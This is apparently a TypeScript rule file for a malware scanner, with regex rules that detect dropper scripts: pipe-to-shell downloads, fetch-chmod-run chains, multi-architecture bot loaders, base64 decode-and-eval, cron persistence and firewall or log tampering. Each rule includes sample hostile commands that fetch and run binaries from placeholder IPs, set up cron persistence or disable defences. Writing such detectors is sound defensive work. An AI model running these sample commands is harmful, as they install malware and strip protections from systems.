import { ADDRESS, DECODE, DROP_PLACE, FETCH, PASTES, re, RUNNER } from './fetching.ts'
import type { ContentRule } from './rule.ts'

/** Scripts that fetch what they then run, and what such scripts do around it. */
export const DROPPERS: readonly ContentRule[] = [
  {
    number: 100,
    name: 'Script.Dropper.PipedFromAddress',
    title: ['Script that runs what a bare address or a paste site sends', '直接执行来自裸 IP 或粘贴站内容的脚本'],
    kind: 'dropper',
    in: ['script'],
    when: {
      any: [
        {
          pattern: re(
            String.raw`(?:curl|wget|lwp-download|fetch|GET)\b[^\n|;]{0,200}${ADDRESS}[^\n|]{0,300}\|\s{0,4}(?:${RUNNER})`,
          ),
          near: ['curl', 'wget', 'lwp-download', 'fetch'],
        },
        {
          pattern: re(
            String.raw`(?:curl|wget|lwp-download|fetch)\b[^\n|;]{0,200}${PASTES}[^\n|]{0,300}\|\s{0,4}(?:base64\s+-d\s{0,4}\|\s{0,4})?(?:${RUNNER})`,
          ),
          near: ['curl', 'wget', 'lwp-download', 'fetch'],
        },
        {
          pattern: re(
            String.raw`(?:ba)?sh\s+(?:-c\s+)?["']?(?:<\(|\$\(|\x60)\s{0,4}(?:curl|wget)\b[^\n]{0,200}(?:${ADDRESS}|${PASTES})`,
          ),
          near: ['curl', 'wget'],
        },
        {
          pattern: re(String.raw`eval\s+["']?(?:\$\(|\x60)\s{0,4}(?:curl|wget)\b[^\n]{0,200}(?:${ADDRESS}|${PASTES})`),
          near: ['curl', 'wget'],
        },
        {
          pattern: re(
            String.raw`exec\(\s{0,4}(?:urllib[\w.]{0,20}|requests|urlopen|__import__\(['"]\w{1,20}['"]\)[\w.]{0,30})[^\n]{0,60}(?:${ADDRESS}|${PASTES})`,
          ),
          near: ['urllib', 'requests', 'urlopen', '__import__'],
        },
      ],
    },
    references: [
      'https://attack.mitre.org/techniques/T1105/',
      'https://sysdig.com/blog/triaging-malicious-docker-container/',
    ],
    match: [
      '#!/bin/sh',
      '(curl -fsSL http://198.51.100.7:8080/i.sh || wget -q -O- http://198.51.100.7:8080/i.sh) | bash',
    ],
    harmless: ['#!/bin/sh', 'curl -fsSL https://get.docker.com | sh', 'curl http://127.0.0.1/health'],
  },
  {
    number: 101,
    name: 'Script.Dropper.FetchAndRun',
    title: ['Script that fetches a program into a temporary folder and runs it', '下载程序到临时目录并执行的脚本'],
    kind: 'dropper',
    in: ['script'],
    when: {
      any: [
        {
          all: [
            { any: FETCH },
            { any: ['chmod', 'os.chmod', 'fs.chmod'] },
            {
              any: [
                {
                  pattern: re(
                    String.raw`(?:curl|wget|tftp|ftpget|axel|aria2c|lwp-download)\b[^\n;|]{0,300}${ADDRESS}[^\n]{0,300}(?:\n|;|&&|\|\|)(?:[^\n]{0,300}\n){0,12}?[^\n]{0,200}chmod\s+(?:-\w\s+)?(?:\+x|[0-7]{0,2}[157][0-7]{2}|a\+x|u\+x|777)`,
                  ),
                  near: FETCH,
                },
                {
                  all: [
                    {
                      pattern: re(
                        String.raw`(?:urlretrieve|urlopen|requests\.get|wget\.download|https?\.get)\s{0,2}\([^\n]{0,200}${ADDRESS}[^]{0,800}chmod(?:Sync)?\b`,
                      ),
                      near: FETCH,
                    },
                    {
                      pattern:
                        /chmod(?:Sync)?\b[^]{0,500}(?:Popen|os\.system|subprocess\.\w{1,20}|os\.exec|os\.spawn|execv|spawn|execFile|exec\()/,
                      near: FETCH,
                    },
                  ],
                },
                {
                  pattern: re(
                    String.raw`cd\s+${DROP_PLACE}[^\n]{0,200}(?:\|\||;|&&)[^\n]{0,200}(?:curl|wget|tftp|ftpget)\b[^\n]{0,400}chmod`,
                  ),
                  near: FETCH,
                },
                {
                  pattern: re(
                    String.raw`(?:curl|wget)\b[^\n;|]{0,200}(?:-o|-O|--output|--output-document)[= ]{0,2}["']?${DROP_PLACE}\/[^\s"';|&]{1,80}[^\n]{0,300}(?:\n[^\n]{0,200}){0,6}?chmod\s+(?:\+x|[0-7]{3,4}|a\+x|u\+x)[^\n]{0,200}(?:\n[^\n]{0,200}){0,6}?(?:nohup|setsid|&\s*$|\/dev\/null 2>&1|rm -rf?)`,
                    'm',
                  ),
                  near: ['curl', 'wget'],
                },
                {
                  pattern: re(
                    String.raw`(?:curl|wget)\b[^\n;|]{0,300}${PASTES}[^\n]{0,300}(?:\n[^\n]{0,300}){0,6}?chmod\s+(?:\+x|[0-7]{3,4}|a\+x|u\+x)`,
                  ),
                  near: ['curl', 'wget'],
                },
              ],
            },
          ],
        },
        {
          pattern:
            /\b(?:tftp|ftpget)\s[^\n]{0,160}(?:-g\b|-c get|\.sh\b)[^\n]{0,160}(?:;|&&)\s{0,4}(?:chmod|sh\s|\.\/)/,
          near: ['tftp', 'ftpget'],
        },
        {
          pattern: re(
            String.raw`(?:curl|wget)\b[^\n|]{0,200}${ADDRESS}[^\n]{0,200}\|\s{0,4}tar\s[^\n]{0,80}${DROP_PLACE}[^\n]{0,200}(?:&&|;)\s{0,4}(?:nohup\s+|setsid\s+)?(?:\.\/|\/)`,
          ),
          near: FETCH,
        },
        {
          pattern: re(
            String.raw`(?:curl|wget)\b[^\n;|]{0,300}(?:${PASTES})[^\n]{0,200}(?:-o|-O)\s{0,2}${DROP_PLACE}[^\n]{0,200}(?:&&|;)\s{0,4}(?:${RUNNER})\s`,
          ),
          near: ['curl', 'wget'],
        },
      ],
    },
    references: [
      'https://attack.mitre.org/techniques/T1105/',
      'https://unit42.paloaltonetworks.com/hildegard-malware-teamtnt/',
    ],
    match: [
      '#!/bin/sh',
      'cd /tmp || cd /var/run || cd /mnt; wget http://203.0.113.9/bins/x86 -O k; chmod 777 k; ./k ssh; rm -rf k',
    ],
    harmless: [
      '#!/bin/sh',
      'curl -fsSLo /usr/local/bin/tini https://github.com/krallin/tini/releases/download/v0.19.0/tini',
      'chmod +x /usr/local/bin/tini',
    ],
  },
  {
    number: 102,
    name: 'Script.Dropper.ManyProcessors',
    title: ['Script that fetches a bot for every kind of processor', '针对多种处理器架构下载僵尸程序的脚本'],
    kind: 'dropper',
    in: ['script', 'text'],
    severity: 'critical',
    when: {
      all: [
        { any: ['wget', 'curl', 'tftp', 'ftpget'] },
        { any: ['chmod', './', 'sh '] },
        { any: ['/tmp', '/var/run', '/dev/shm', '/mnt', 'busybox'] },
        {
          pattern:
            /(?:\b|[_.])(?:mips|mpsl|mipsel|arm[4-7]?l?|armv[4-7]l|sh4|ppc|powerpc|m68k|spc|sparc|i[3-6]86|x86(?:_64|_32)?|arc|aarch64)\b(?:[^]{0,400}?(?:\b|[_.])(?:mpsl|mipsel|arm[4-7]l?|armv[4-7]l|sh4|ppc|powerpc|m68k|spc|sparc|i[3-6]86|arc)\b){3}/,
          near: ['mips', 'mpsl', 'arm7', 'arm6', 'arm5', 'sparc', 'm68k', 'armv'],
        },
        {
          pattern: re(
            String.raw`(?:wget|curl|tftp|ftpget)\b[^\n]{0,120}(?:${ADDRESS}|(?:\d{1,3}\.){3}\d{1,3}|\$\{?\w{1,30}\}?\/)`,
          ),
          near: ['wget', 'curl', 'tftp', 'ftpget'],
        },
      ],
    },
    attack: ['T1105', 'T1583.005'],
    references: [
      'https://www.usenix.org/system/files/conference/usenixsecurity17/sec17-antonakakis.pdf',
      'https://attack.mitre.org/techniques/T1105/',
    ],
    match: [
      '#!/bin/bash',
      'cd /tmp || cd /var/run; wget http://192.0.2.5/mips; chmod +x mips; ./mips; rm -rf mips',
      'cd /tmp; wget http://192.0.2.5/mpsl; chmod +x mpsl; ./mpsl',
      'wget http://192.0.2.5/arm7; chmod +x arm7; ./arm7',
      'wget http://192.0.2.5/sh4; chmod +x sh4; ./sh4',
      'wget http://192.0.2.5/ppc; chmod +x ppc; ./ppc',
    ],
    harmless: [
      '#!/bin/sh',
      'case $(uname -m) in x86_64) a=amd64;; aarch64) a=arm64;; armv7l) a=arm;; esac',
      'wget https://example.org/tool-$a -O /usr/bin/tool; chmod +x /usr/bin/tool',
    ],
  },
  {
    number: 103,
    name: 'Script.Dropper.DecodeAndRun',
    title: ['Script that decodes something and runs it', '解码内容并执行的脚本'],
    kind: 'dropper',
    in: ['script'],
    severity: 'medium',
    confidence: 'medium',
    when: {
      any: [
        {
          pattern: re(
            String.raw`(?:echo|printf|cat|<<<)\s[^\n|]{0,20000}\|\s{0,4}(?:rev\s{0,4}\|\s{0,4})?${DECODE}[^\n|]{0,40}(?:\|\s{0,4}(?:gunzip|zcat|gzip -d|xz -d|bunzip2|rev|tr [^\n|]{1,60})[^\n|]{0,20}){0,2}\|\s{0,4}(?:${RUNNER})`,
          ),
          near: ['base64', 'xxd', 'uudecode', 'base32', 'basenc'],
        },
        {
          pattern: re(
            String.raw`(?:eval|bash -c|sh -c|source|exec)\s{0,4}["']?(?:\$\(|\x60|<\()[^\n]{0,20000}${DECODE}`,
          ),
          near: ['base64', 'xxd', 'uudecode', 'base32'],
        },
        {
          pattern:
            /(?:exec|eval)\s{0,4}\(\s{0,4}(?:__import__\(\s{0,2}['"](?:base64|zlib|codecs|marshal|bz2|lzma)['"]\s{0,2}\)|base64|zlib|codecs|marshal|compile|lzma|bz2|gzip|Fernet|bytes\.fromhex|bytearray\.fromhex|b64decode|decompress|loads)\b[^\n]{0,200}(?:decode|decompress|decrypt|loads|fromhex)/,
          near: ['exec', 'eval'],
        },
        {
          pattern: /(?:b64decode|decompress|loads|fromhex)\b[^\n]{0,160}[;)]\s{0,8}exec\s{0,2}\(\s{0,2}\(?/,
          near: ['b64decode', 'decompress', 'marshal', 'fromhex'],
        },
        {
          pattern:
            /(?:eval|assert)\s{0,4}\(\s{0,4}(?:base64_decode|gzinflate|gzuncompress|str_rot13|gzdecode|hex2bin)\s{0,4}\(/,
          near: ['base64_decode(', 'base64_decode (', 'gzinflate', 'gzuncompress', 'str_rot13', 'gzdecode', 'hex2bin'],
        },
        { pattern: /\beval\s{0,4}(?:\(\s{0,4})?(?:decode_base64|unpack)\s{0,4}\(/, near: ['decode_base64', 'unpack'] },
        {
          pattern:
            /\b(\w{1,40})\s{0,4}=\s{0,4}(?:Buffer\.from|atob)\s{0,2}\(\s{0,2}['"\x60][A-Za-z0-9+/=]{40,40000}['"\x60][^;]{0,80};\s{0,20}(?:eval|(?:new\s)?Function|vm\.run\w{1,20})\s{0,2}\(\s{0,2}\1\b/,
          near: ['Buffer.from', 'atob('],
        },
        {
          pattern: /(?:eval|Function)\s{0,4}\(\s{0,4}(?:Buffer\.from\([^\n]{1,20000}['"](?:base64|hex)['"]\)|atob\()/,
          near: ['Buffer.from', 'atob('],
        },
      ],
    },
    attack: ['T1027', 'T1140'],
    references: ['https://attack.mitre.org/techniques/T1140/', 'https://attack.mitre.org/techniques/T1027/'],
    match: ['#!/bin/bash', 'echo Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5vcmcK | base64 -d | bash'],
    harmless: ['#!/bin/bash', 'echo "$CERT" | base64 -d > /etc/ssl/cert.pem', 'openssl x509 -in /etc/ssl/cert.pem'],
  },
  {
    number: 104,
    name: 'Script.Dropper.BashSockets',
    title: ['Script that fetches by sockets of the shell', '用 shell 套接字下载的脚本'],
    kind: 'dropper',
    in: ['script'],
    when: {
      any: [
        { pattern: /function\s+__?(?:curl|gogo|wget)\b|__curl\(\)/, near: ['/dev/tcp/'] },
        {
          pattern: /exec\s+\d{1,3}<>\s{0,4}["']?\/dev\/tcp\/[^\n]{1,100}(?:\n[^\n]{0,200}){0,4}?GET\s+(?:\/|\$)/,
          near: ['/dev/tcp/'],
        },
      ],
    },
    references: [
      'https://www.aquasec.com/blog/threat-alert-kinsing-malware-container-vulnerability/',
      'https://attack.mitre.org/techniques/T1105/',
    ],
    match: [
      '#!/bin/bash',
      'function __curl() {',
      'read proto server path <<<$(echo ${1//// })',
      'exec 3<>/dev/tcp/${HOST}/$PORT',
      'echo -en "GET ${DOC} HTTP/1.0\\r\\nHost: ${HOST}\\r\\n\\r\\n" >&3',
      '}',
    ],
    harmless: ['#!/bin/bash', 'until (exec 3<>/dev/tcp/db/5432) 2>/dev/null; do sleep 1; done'],
  },
  {
    number: 105,
    name: 'Script.Dropper.Persistence',
    title: ['Script that has a download run again and again', '使下载内容持续运行的脚本'],
    kind: 'dropper',
    in: ['script', 'text'],
    when: {
      any: [
        {
          pattern: re(
            String.raw`(?:\*\/?\d{0,2}\s+){3,5}[^\n]{0,60}(?:curl|wget|lwp-download)\b[^\n]{0,300}\|\s{0,4}(?:${RUNNER})`,
          ),
          near: ['curl', 'wget', 'lwp-download'],
        },
        {
          pattern: re(
            String.raw`(?:@reboot|@hourly|@daily|(?:\*\/?\d{0,2}\s+){3,5})[^\n]{0,60}(?:curl|wget)\b[^\n]{0,200}(?:${ADDRESS}|${PASTES})`,
          ),
          near: ['curl', 'wget'],
        },
        {
          pattern:
            /(?:\*\/?\d{0,2}\s+){3,5}[^\n]{0,60}(?:\/tmp\/|\/dev\/shm\/|\/var\/tmp\/)\.?[\w.-]{1,60}[^\n]{0,40}(?:>\s?\/dev\/null|&)/,
          near: ['/tmp/', '/dev/shm/', '/var/tmp/'],
        },
        {
          all: [
            { any: ['chattr +i', 'chattr +ia', 'chattr -R +ia', 'tntrecht', 'chattr +ai'] },
            { any: ['/var/spool/cron', '/etc/cron.d', 'authorized_keys', '/etc/ld.so.preload', 'crontab'] },
            { any: ['curl', 'wget', 'base64', '/dev/tcp/'] },
          ],
        },
        { pattern: /(?:echo|printf)[^\n]{0,200}>>?\s{0,4}\/etc\/ld\.so\.preload/, near: ['/etc/ld.so.preload'] },
      ],
    },
    attack: ['T1053.003', 'T1105', 'T1574.006'],
    references: ['https://attack.mitre.org/techniques/T1053/003/', 'https://attack.mitre.org/software/S0599/'],
    match: [
      '#!/bin/sh',
      '(crontab -l; echo "*/5 * * * * curl -fsSL http://198.51.100.7/i.sh | sh > /dev/null 2>&1") | crontab -',
      'chattr +ia /var/spool/cron/root',
    ],
    harmless: ['#!/bin/sh', '*/5 * * * * root curl -fsS https://hc-ping.com/uuid > /dev/null'],
  },
  {
    number: 106,
    name: 'Script.Dropper.Defences',
    title: ['Script that takes defences away and then fetches something', '关闭防护后再下载内容的脚本'],
    kind: 'dropper',
    in: ['script'],
    when: {
      all: [
        {
          atLeast: 3,
          of: [
            'setenforce 0',
            'SELINUX=disabled',
            'ufw disable',
            'iptables -F',
            'iptables -P INPUT ACCEPT',
            'systemctl stop firewalld',
            'systemctl disable apparmor',
            'service apparmor stop',
            'nmi_watchdog',
            'history -c',
            'HISTFILE',
            'unset HIST',
            'ulimit -n 65535',
            'vm.nr_hugepages',
            'chattr -i',
            'chattr -iua',
            '> /var/log/',
            'rm -rf /var/log',
            'echo 3 > /proc/sys/vm/drop_caches',
            'crontab -r',
            'auditctl -e 0',
            'service rsyslog stop',
            'rm -f /var/log/wtmp',
            '/var/spool/mail/root',
            'bash_history',
          ],
        },
        { any: ['curl', 'wget', '/dev/tcp/', 'base64'] },
        { any: ['chmod', 'nohup', '| bash', '|bash', '| sh', '|sh', 'crontab', './'] },
        { any: ['/tmp', '/dev/shm', '/var/tmp', 'http://', 'base64'] },
      ],
    },
    attack: ['T1562.001', 'T1562.004', 'T1070.003', 'T1105'],
    references: [
      'https://attack.mitre.org/techniques/T1562/001/',
      'https://www.aquasec.com/blog/threat-alert-kinsing-malware-container-vulnerability/',
    ],
    match: [
      '#!/bin/bash',
      'ulimit -n 65535; setenforce 0; ufw disable; iptables -F',
      "echo '0' >/proc/sys/kernel/nmi_watchdog",
      'chattr -iua /tmp/; rm -rf /var/log/syslog',
      'wget http://198.51.100.7/a -O /tmp/a; chmod +x /tmp/a; nohup /tmp/a',
    ],
    harmless: [
      '#!/bin/bash',
      'setenforce 0',
      'curl -fsSLo /usr/bin/kubectl https://dl.k8s.io/kubectl',
      'chmod +x /usr/bin/kubectl',
    ],
  },
]
